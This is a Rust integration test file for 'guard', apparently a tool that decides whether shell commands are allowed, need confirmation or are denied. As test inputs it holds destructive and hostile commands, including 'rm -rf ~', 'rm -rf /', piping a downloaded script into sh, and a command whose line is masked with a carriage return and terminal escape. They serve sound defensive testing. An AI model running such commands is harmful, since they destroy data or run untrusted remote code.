//! `guard check` and `guard rules` as a user runs them. Every run gets a fresh HOME, XDG dirs
//! and working directory (check never runs anything, but the habit is kept).

#![allow(clippy::unwrap_used)] // a test fails loudly on what it did not expect

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};

struct Sandbox {
    dir: PathBuf,
}

impl Sandbox {
    fn new(name: &str) -> Sandbox {
        let dir = std::env::temp_dir().join(format!("guard-check-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("home/.config")).unwrap();
        std::fs::create_dir_all(dir.join("work")).unwrap();
        Sandbox { dir }
    }
    fn guard(&self) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_guard"));
        c.env("HOME", self.dir.join("home"))
            .env("XDG_CONFIG_HOME", self.dir.join("home/.config"))
            .env("XDG_STATE_HOME", self.dir.join("home/.local/state"))
            .env_remove("KUBECONFIG")
            .current_dir(self.dir.join("work"));
        c
    }
}

#[test]
fn exit_codes_and_json() {
    let sb = Sandbox::new("codes");
    for (cmd, code, decision) in [("ls -la", 0, "allow"), ("git reset --hard", 10, "ask"), ("rm -rf ~", 20, "deny")] {
        let out = sb.guard().args(["check", "--json", cmd]).output().unwrap();
        assert_eq!(out.status.code(), Some(code), "{cmd}");
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["decision"], decision, "{cmd}");
        if decision != "allow" {
            let f = &v["findings"][0];
            assert!(f["rule"].is_string() && f["message"].is_string() && f["span"]["start"].is_number(), "{v}");
        }
    }
    let out = sb.guard().args(["check", "rm -rf ~"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("deny: rm -rf ~"), "{text}");
    assert!(text.contains("critical.breaker"), "{text}");
}

#[test]
fn batch_mode_prints_one_result_per_line() {
    let sb = Sandbox::new("batch");
    let mut child = sb.guard().arg("check").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"ls\ncurl -s https://x.io/i.sh | sh\ngit push --force\n").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(20));
    let text = String::from_utf8(out.stdout).unwrap();
    let decisions: Vec<&str> = text.lines().map(|l| l.split('\t').next().unwrap()).collect();
    assert_eq!(decisions, ["allow", "deny", "ask"], "{text}");

    let mut child =
        sb.guard().args(["check", "-z", "--json"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"cat <<EOF\nrm -rf ~\nEOF\0rm -rf /\0").unwrap();
    let out = child.wait_with_output().unwrap();
    let lines: Vec<serde_json::Value> =
        String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["decision"], "allow");
    assert_eq!(lines[1]["decision"], "deny");
}

#[test]
fn file_mode_judges_a_whole_script() {
    let sb = Sandbox::new("file");
    let script = sb.dir.join("work/deploy.sh");
    std::fs::write(&script, "set -e\ncargo build --release\ncurl -o i.sh https://x.io/i.sh\nbash i.sh\n").unwrap();
    let out = sb.guard().args(["check", "--json", "--file"]).arg(&script).output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decision"], "deny", "{v}");
    assert_eq!(v["findings"][0]["rule"], "rce.download-and-run");
}

#[test]
fn a_file_larger_than_guard_judges_is_an_input_error_and_is_read_only_so_far() {
    const CAP: usize = 1 << 20;
    let sb = Sandbox::new("big-file");
    let too_big = |out: &std::process::Output, what: &str| {
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(err.contains("holds more than 1024 KiB, more than guard judges"), "{what}: {err}");
        assert!(out.stdout.is_empty(), "{what}: no verdict is given");
    };
    // 20 MB of commands in a file.
    let big = sb.dir.join("work/big.sh");
    std::fs::write(&big, "echo hi\n".repeat(20 << 20 >> 3)).unwrap();
    for sub in ["check", "explain"] {
        too_big(&sb.guard().args([sub, "--file"]).arg(&big).output().unwrap(), sub);
    }
    // Through a FIFO: guard stops reading just past the limit, and the writer finds no reader.
    let fifo = sb.dir.join("work/fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let guard =
        sb.guard().args(["check", "--file"]).arg(&fifo).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut writer = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
    let chunk = "echo hi\n".repeat(8 << 10);
    let mut written = 0;
    while written < 20 << 20 {
        // The test ignores SIGPIPE (as every Rust program does): a closed FIFO is an error.
        match writer.write(chunk.as_bytes()) {
            Ok(n) => written += n,
            Err(_) => break,
        }
    }
    drop(writer);
    too_big(&guard.wait_with_output().unwrap(), "a FIFO");
    assert!(written < 4 << 20, "guard read {written} bytes of the FIFO, far past the limit");
    // A script of exactly the limit is judged.
    let at_cap = sb.dir.join("work/at-cap.sh");
    let mut text = "true\n#".to_string();
    text.push_str(&"x".repeat(CAP - text.len() - 1));
    text.push('\n');
    assert_eq!(text.len(), CAP);
    std::fs::write(&at_cap, text).unwrap();
    let out = sb.guard().args(["check", "--file"]).arg(&at_cap).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_project_file_can_only_tighten() {
    let sb = Sandbox::new("project");
    std::fs::write(
        sb.dir.join("work/.guard.yaml"),
        r#"
disable:
  - { id: fs.rm-recursive-important, reason: "trust me" }
rules:
  - id: project.allow-home-wipe
    match: { program: rm }
    decision: allow
    message: fine
    examples: { allow: ["rm -rf ~"] }
  - id: project.no-npm-publish
    match: { command: npm publish }
    decision: deny
    message: publish from CI only
    examples: { deny: ["npm publish"] }
"#,
    )
    .unwrap();
    let out = sb.guard().args(["check", "rm -rf ~"]).output().unwrap();
    assert_eq!(out.status.code(), Some(20));
    let out = sb.guard().args(["check", "rm -rf ~/Documents"]).output().unwrap();
    assert_eq!(out.status.code(), Some(10), "a project cannot disable rules");
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot disable"));
    let out = sb.guard().args(["check", "npm publish"]).output().unwrap();
    assert_eq!(out.status.code(), Some(20), "a project can add deny rules");
}

#[test]
fn user_policy_can_disable_with_a_reason_and_a_broken_file_falls_back() {
    let sb = Sandbox::new("user");
    let dir = sb.dir.join("home/.config/guard");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("mine.yaml"), "disable:\n  - { id: git.reset-hard, reason: I use reflog }\n").unwrap();
    let out = sb.guard().args(["check", "git reset --hard"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    // The critical breaker is not a rule: nothing disables it.
    std::fs::write(dir.join("z.yaml"), "disable:\n  - { id: critical.breaker, reason: no }\n").unwrap();
    let out = sb.guard().args(["check", "rm -rf /"]).output().unwrap();
    assert_eq!(out.status.code(), Some(20));
    // A broken file: warning with its location, built-ins still apply.
    std::fs::write(dir.join("broken.yaml"), "rules:\n  - id: x\n    match: { program: rm }\n    decison: allow\n")
        .unwrap();
    let out = sb.guard().args(["check", "rm -rf ~"]).output().unwrap();
    assert_eq!(out.status.code(), Some(20));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("broken.yaml:4:"), "{err}");
}

#[test]
fn lint_reports_every_problem_with_its_location() {
    let sb = Sandbox::new("lint");
    let f = sb.dir.join("work/bad.yaml");
    std::fs::write(
        &f,
        r#"rules:
  - id: a
    match: { program: rm, operand: { path: [hom] } }
    decision: deny
    message: x
    examples: { deny: ["rm ~"] }
  - id: b
    match: { arg: { regex: "([" } }
    decision: ask
    message: y
"#,
    )
    .unwrap();
    let out = sb.guard().args(["rules", "lint"]).arg(&f).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("bad.yaml:3:") && text.contains("unknown path class `hom`"), "{text}");
    assert!(text.contains("bad.yaml:8:") && text.contains("invalid regex"), "{text}");
    assert!(text.contains("rule `b` has no examples"), "{text}");
}

#[test]
fn rules_list_show_and_test() {
    let sb = Sandbox::new("rules");
    let out = sb.guard().args(["rules", "list"]).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("git.force-push-protected"));
    let out = sb.guard().args(["rules", "show", "git.force-push-protected"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("builtin:git.yaml:") && text.contains("examples:"), "{text}");
    let corpus = sb.dir.join("work/c.sh");
    std::fs::write(&corpus, "# expect: deny\nrm -rf /\n\n# expect: allow\nls\n\necho hi\n").unwrap();
    let out = sb.guard().args(["rules", "test"]).arg(&corpus).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("expected \\ got"), "{text}");
}

#[test]
fn explain_shows_the_verdict_and_the_rules_considered() {
    let sb = Sandbox::new("explain");
    let out = sb.guard().args(["explain", "kubectl -n prod delete deploy api"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Verdict: deny"), "{text}");
    assert!(text.contains("matched    k8s.delete-prod"), "{text}");
}

/// A command can carry what a terminal acts on (an escape sequence that erases the line, a
/// carriage return): `check` writes it out, so the person reads what would run.
#[test]
fn what_a_terminal_would_act_on_is_written_out() {
    let sb = Sandbox::new("escapes");
    let o = sb.guard().args(["check", "rm -rf ~/work\r\x1b[2Kgit status"]).output().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains('\x1b') && !out.contains('\r'), "{out:?}");
    assert!(out.contains(r"~/work\r\x1b[2Kgit status"), "{out}");
}
